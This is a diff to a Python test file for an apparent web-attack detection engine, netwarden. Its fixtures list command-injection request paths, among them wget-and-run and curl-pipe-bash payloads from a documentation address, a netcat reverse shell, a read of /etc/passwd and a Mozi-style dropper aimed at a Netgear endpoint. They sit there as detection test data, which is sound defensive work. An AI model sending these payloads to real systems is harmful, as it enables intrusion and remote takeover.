@@ -15,7 +15,7 @@ from netwarden.detect._web_signatures import inspect_url, normalise
 from netwarden.detect.engine import DetectionEngine
 from netwarden.detect.web_attack import WebAttack
 from netwarden.parse import get_parser
-from netwarden.parse.base import ParseContext
+from netwarden.parse.base import ParseContext, ParseError
 from netwarden.records import AlertStatus, Event, Severity
 from netwarden.store import alerts as alert_store
 
@@ -92,8 +92,8 @@ ATTACKS = {
         "/ping.php?ip=127.0.0.1;wget http://203.0.113.9/x.sh -O /tmp/x;sh /tmp/x",
         "/ping.php?ip=127.0.0.1|nc -e /bin/sh 203.0.113.9 4444", "/ping.php?ip=;cat${IFS}/etc/passwd",
         "/ping.php?ip=127.0.0.1 | ls -la", "/cgi-bin/test.cgi?x=;/bin/bash -c 'id'",
-        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+"
-        "/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
+        ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+"
+         "/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"),
         "/ping.php?ip=127.0.0.1||curl http://203.0.113.9/s|bash", "/ping.php?ip=127.0.0.1 %26 ipconfig",
         "/shell?cmd=cmd.exe /c dir",
     ],
@@ -258,8 +258,8 @@ def test_real_internet_probes_in_suricata_eve(datasets: Path) -> None:
             try:
                 if (e := parser.parse_line(line)) is not None:
                     events.append(e)
-            except Exception:
-                continue
+            except ParseError:  # the capture's few damaged lines are quarantined by ingest
+                pass
     alerts = {(a.source, a.subkind): a for a in run(events)}
     pma = alerts[("45.144.225.135", "sensitive_file")]  # phpMyAdmin setup.php under five names: a scan
     assert pma.severity == Severity.MEDIUM and len(pma.evidence["paths"]) == 5
@@ -318,6 +318,13 @@ def test_nikto_scan_mixed_with_ordinary_users(datasets: Path) -> None:
     assert by_kind["sensitive_file"].severity == Severity.MEDIUM  # many probes, all refused
     assert by_kind["sqli"].severity == Severity.MEDIUM  # refused (404)
     assert any(f.name == "tool_user_agent" for f in by_kind["sqli"].factors)
+
+
+def test_evaluation_sees_every_contributing_event() -> None:
+    events = [req(f"/item?id={i}'+or+'1'='1", second=i) for i in range(120)] + [req("/index.html", second=200)]
+    engine = DetectionEngine([WebAttack(keep_events=True)], keep_events=True)
+    engine.process(events)
+    assert len(engine.flagged) == 120 and id(events[-1]) not in engine.flagged
 
 
 def test_gobuster_directory_scan() -> None:
